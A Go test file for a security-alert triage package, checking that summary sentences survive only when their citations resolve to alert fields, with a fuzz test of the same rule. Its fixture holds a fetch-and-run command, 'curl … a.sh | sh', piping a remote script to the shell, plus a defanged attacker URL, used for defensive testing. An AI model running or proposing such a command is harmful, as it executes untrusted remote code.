package triage_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/seed-959697dd/soc/triage"
)

// TestProseIsGrounded: a sentence stays with its citations as they resolve, or goes and is counted.
func TestProseIsGrounded(t *testing.T) {
	t.Parallel()
	places := map[string]string{"process.command_line": "curl http://198.51.100.7/a.sh | sh", "signal 1": "a script is fetched and run"}
	g := triage.Grounds{
		Resolve: func(c triage.Cite) (triage.Cite, bool) {
			found, ok := places[c.At]
			return triage.Cite{At: c.At, Value: found}, ok && strings.Contains(found, c.Value)
		},
		Knows: func(v string) bool { return strings.Contains(places["process.command_line"], v) },
	}
	path, signal := triage.Cite{At: "process.command_line", Value: "curl"}, triage.Cite{At: "signal 1"}
	for name, row := range map[string]struct {
		text  string
		cites []triage.Cite
		holds bool
	}{
		"a path and its value":            {"It fetches a script.", []triage.Cite{path}, true},
		"two places":                      {"It fetches a script from 198.51.100.7.", []triage.Cite{path, signal}, true},
		"nothing cited":                   {"It fetches a script.", nil, false},
		"one of two does not resolve":     {"It fetches a script.", []triage.Cite{path, {At: "signal 2"}}, false},
		"another value":                   {"It fetches a script.", []triage.Cite{{At: "process.command_line", Value: "wget"}}, false},
		"an address that stands nowhere":  {"It fetches a script from 203.0.113.99.", []triage.Cite{path}, false},
		"a defanged one of the same kind": {"It fetches hxxp://evil[.]example/a.sh.", []triage.Cite{path}, false},
		"no words":                        {" ", []triage.Cite{path}, false},
	} {
		kept, dropped := g.Ground([]triage.Sentence{{Text: row.text, Cites: row.cites}})
		if row.holds != (len(kept) == 1) || row.holds == (dropped == 1) {
			t.Errorf("%s: %d kept, %d dropped", name, len(kept), dropped)
		}
		if row.holds && kept[0].Cites[0].Value != places[kept[0].Cites[0].At] {
			t.Errorf("%s: shown as %+v", name, kept[0].Cites)
		}
	}
}

// FuzzGround: whatever the text, nothing is lost, nothing stays without a citation that resolves, and what is kept is kept again.
func FuzzGround(f *testing.F) {
	f.Add("It runs 198.51.100.7.", "a", "198.51.100.7", uint8(3))
	f.Add("hxxps://x[.]example/\x00", "b", "", uint8(0))
	f.Fuzz(func(t *testing.T, text, at, value string, n uint8) {
		g := triage.Grounds{
			Resolve: func(c triage.Cite) (triage.Cite, bool) { return c, c.At == "a" },
			Knows:   func(v string) bool { return v == value },
		}
		list := []triage.Sentence{{Text: text, Cites: slices.Repeat([]triage.Cite{{At: at, Value: value}}, int(n%4))}, {Text: value, Cites: []triage.Cite{{At: "a"}}}}
		kept, dropped := g.Ground(list)
		if len(kept)+dropped != len(list) {
			t.Fatalf("%d kept and %d dropped of %d", len(kept), dropped, len(list))
		}
		for _, s := range kept {
			if len(s.Cites) == 0 || s.Cites[0].At != "a" {
				t.Fatalf("%+v rests on nothing", s)
			}
		}
		if again, lost := g.Ground(kept); lost != 0 || len(again) != len(kept) {
			t.Fatalf("%d of %d hold no more", lost, len(kept))
		}
	})
}
